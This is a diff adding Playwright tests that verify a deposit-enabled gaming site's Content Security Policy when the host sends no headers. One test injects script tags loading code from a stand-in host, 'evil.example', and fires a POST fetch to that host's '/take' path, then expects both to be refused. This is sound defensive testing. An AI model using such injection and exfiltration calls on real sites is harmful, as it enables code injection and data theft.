@@ -1,0 +1,86 @@
+import { expect } from '@playwright/test';
+
+import { recharge } from '#api/calls/deposit.ts';
+
+import { order } from './deposit.ts';
+import { dropHeaders } from './fixtures/bareHost.ts';
+import { logIn } from './fixtures/login.ts';
+import { plainByNature } from './fixtures/shells.ts';
+import { test } from './fixtures.ts';
+import { expectHome, playAndLeave } from './journey.ts';
+
+const PLAIN = plainByNature('the policy of the page is the same in every shell');
+const FOREIGN = 'https://evil.example';
+
+test(
+  '[F-B08] a host that sends no headers still serves a site that works: login, a game, a deposit',
+  PLAIN,
+  async ({ context, openPlain, world }) => {
+    const card = await world.addMember({ name: 'walker', balance: '500.00' });
+    await dropHeaders(context, world.origin);
+    const app = await openPlain('/login');
+    await logIn(app, card);
+    await expectHome(app);
+    await playAndLeave(app, world, card.name);
+    await app.frame.evaluate(() => void (location.hash = '/recharge'));
+    await order(app, ['USDT', 'TRC20'], '102');
+    await expect(app.frame.getByRole('img', { name: '收款地址二维码' })).toBeVisible();
+    expect(await world.requests(recharge)).toHaveLength(1);
+  },
+);
+
+test(
+  '[F-B08] and one that runs no foreign code and sends nothing elsewhere',
+  PLAIN,
+  async ({ context, openPlain, world, watch }) => {
+    for (const part of ['Content Security Policy', 'policy: ', 'requires '])
+      watch.expectConsole(part);
+    const asked: string[] = [];
+    await context.route(`${FOREIGN}/**`, (route) => {
+      asked.push(route.request().url());
+      return route.fulfill({ contentType: 'text/javascript', body: 'window.injected = "foreign"' });
+    });
+    const injected = `<script>window.injected = 'inline'</script><script src="${FOREIGN}/a.js"></script>`;
+    await dropHeaders(context, world.origin, (html) =>
+      html.replace('<div id="root">', () => `${injected}<div id="root">`),
+    );
+    const app = await openPlain();
+    await expectHome(app);
+    const outcome = await app.frame.evaluate(async (foreign) => {
+      const sent = await fetch(`${foreign}/take`, { method: 'POST', mode: 'no-cors' }).then(
+        () => 'sent',
+        () => 'refused',
+      );
+      let html = 'taken';
+      try {
+        document.createElement('p').innerHTML = '<b>1</b>';
+      } catch {
+        html = 'refused';
+      }
+      return { injected: 'injected' in window, sent, html };
+    }, FOREIGN);
+    expect(outcome).toEqual({ injected: false, sent: 'refused', html: 'refused' });
+    expect(asked).toEqual([]);
+  },
+);
+
+test(
+  '[D-162, F-B08] a backend that was set after the build but not admitted by the policy is named in the console and on the screen',
+  PLAIN,
+  async ({ context, openPlain, world, watch, shoot }) => {
+    const lines: string[] = [];
+    context.on('console', (message) => lines.push(message.text()));
+    for (const part of ['Content Security Policy', 'policy: connect-src', '[lobby]'])
+      watch.expectConsole(part);
+    await dropHeaders(context, world.origin, (html) =>
+      html.replace('"apiBase":""', '"apiBase":"https://api.example/v1"'),
+    );
+    const app = await openPlain('/login');
+    await expect(app.frame.getByText('网站配置有误')).toBeVisible();
+    await expect(app.frame.getByRole('textbox')).toHaveCount(0);
+    await shoot(app, 'refused-backend');
+    const said = lines.filter((line) => line.startsWith('[lobby]'));
+    expect(said).toHaveLength(1);
+    expect(said[0]).toMatch(/https:\/\/api\.example.*header.*<meta/);
+  },
+);
